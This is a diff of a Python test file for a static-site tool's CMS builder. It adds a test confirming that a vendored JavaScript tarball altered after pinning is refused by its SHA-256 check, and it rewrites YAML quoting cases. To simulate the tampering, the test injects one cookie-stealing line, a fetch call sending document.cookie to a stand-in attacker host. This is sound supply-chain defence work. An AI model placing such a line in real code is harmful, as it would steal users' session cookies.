@@ -21,6 +21,7 @@ import pytest
 from click.testing import CliRunner
 
 from ducha.cli import cli
+from ducha.errors import UsageError
 from ducha.io.yamlfile import parse_yaml
 from ducha.io.yamltext import yaml_scalar
 from ducha.load.office import load_office
@@ -164,13 +165,39 @@ def test_office_yaml_cms_settings_are_checked(tmp_path: Path, invoke: Invoke) ->
 def test_the_page_refuses_a_vendor_folder_at_another_version(tmp_path: Path, invoke: Invoke) -> None:
     root = office_with(tmp_path, FORGEJO)
     fake = tmp_path / "vendor"
+    fake.mkdir()
     for pin in pins():
-        (fake / pin.name).mkdir(parents=True)
-        (fake / pin.name / ".pinned").write_text(f"{pin.name} 0.0.1 {'0' * 64}\n", encoding="utf-8")
+        (fake / f"{pin.name}-0.0.1.tgz").write_bytes(b"")
     result = CliRunner(env={"DUCHA_VENDOR": str(fake)}).invoke(cli, ["--root", str(root), "cms", "--today", TODAY])
     assert result.exit_code == 2
     assert "decap-cms 3.16.3（现有 0.0.1）" in result.output and "make vendor" in result.output
     assert not (root / "build" / "site" / "admin").exists()
+
+
+def test_a_changed_vendored_file_never_reaches_the_page(tmp_path: Path) -> None:
+    """The pinned SHA-256 is checked on every write, on the very bytes the page's files come from: a file
+    changed in .vendor/ (a tarball rebuilt with one script more, its name and version unchanged) is refused."""
+    import io
+    import tarfile
+
+    trojan = tmp_path / "vendor"
+    shutil.copytree(vendored(), trojan)
+    pin = next(p for p in pins() if p.name == "yaml")
+    buffer = io.BytesIO()
+    with tarfile.open(trojan / pin.tarball) as original, tarfile.open(fileobj=buffer, mode="w:gz") as changed:
+        for member in original.getmembers():
+            data = original.extractfile(member) if member.isfile() else None
+            content = data.read() if data is not None else b""
+            if member.name.endswith("/index.js"):
+                content += b"\nfetch('https://evil.invalid/' + document.cookie);\n"
+                member.size = len(content)
+            changed.addfile(member, io.BytesIO(content) if member.isfile() else None)
+    (trojan / pin.tarball).write_bytes(buffer.getvalue())
+    office = load_office(office_with(tmp_path, FORGEJO))
+    with pytest.raises(UsageError) as refused:
+        write_admin(tmp_path / "site" / "admin", office, [2026], trojan)
+    assert "yaml 2.9.1（文件与登记的 SHA-256 不符，已被改动）" in str(refused.value)
+    assert not (tmp_path / "site" / "admin").exists()
 
 
 def test_the_page_is_written_whole_with_its_config(tmp_path: Path) -> None:
@@ -229,15 +256,22 @@ def run_format(page: Path, scalars: list[str], files: list[str], edits: list[tup
     return result
 
 
-SCALARS = ["市住建局", "2026-11-23", "yes", "No", "0371", "1.5", "~", "- 列表", "a: b", "含 # 号", "：全角冒号开头",
-           "结尾有空格 ", "第一行\n第二行", "制表\t符", "\"引号\"", "'单引号'", "[方括号]", "@某人", "青建〔2026〕133号",
-           "已组织供热公司抢修。", "*星号", "%百分号", "`反引号`", "2026-1-5", ""]
+#: Each text and how ducha writes it as a YAML value, by hand: plain where YAML reads it back as the same
+#: text (and dates plain, as staff write them); in double quotes where plain it would turn into a boolean, a
+#: number, null, a list, a mapping, a comment, lose a space or hold a control character.
+SCALARS = [("市住建局", "市住建局"), ("2026-11-23", "2026-11-23"), ("yes", '"yes"'), ("No", '"No"'), ("0371", '"0371"'),
+           ("1.5", '"1.5"'), ("~", '"~"'), ("- 列表", '"- 列表"'), ("a: b", '"a: b"'), ("含 # 号", '"含 # 号"'),
+           ("：全角冒号开头", "：全角冒号开头"), ("结尾有空格 ", '"结尾有空格 "'), ("第一行\n第二行", '"第一行\\n第二行"'),
+           ("制表\t符", '"制表\\t符"'), ('"引号"', '"\\"引号\\""'), ("'单引号'", '"\'单引号\'"'), ("[方括号]", '"[方括号]"'),
+           ("@某人", '"@某人"'), ("青建〔2026〕133号", "青建〔2026〕133号"), ("已组织供热公司抢修。", "已组织供热公司抢修。"),
+           ("*星号", '"*星号"'), ("%百分号", '"%百分号"'), ("`反引号`", '"`反引号`"'), ("2026-1-5", '"2026-1-5"'), ("", '""')]
 
 
 def test_the_format_quotes_scalars_as_ducha_does(node_page: Path) -> None:
-    result = run_format(node_page, SCALARS, [], [])
-    assert result["scalars"] == [yaml_scalar(text) for text in SCALARS]
-    for text, written in zip(SCALARS, result["scalars"], strict=True):
+    result = run_format(node_page, [text for text, _ in SCALARS], [], [])
+    assert result["scalars"] == [written for _, written in SCALARS]
+    assert [yaml_scalar(text) for text, _ in SCALARS] == [written for _, written in SCALARS]  # ducha's own writer
+    for text, written in SCALARS:
         doc, problems = parse_yaml(f"k: {written}\n".encode(), "x.yaml")
         assert problems == [] and doc is not None and doc.data == {"k": text}, text
 
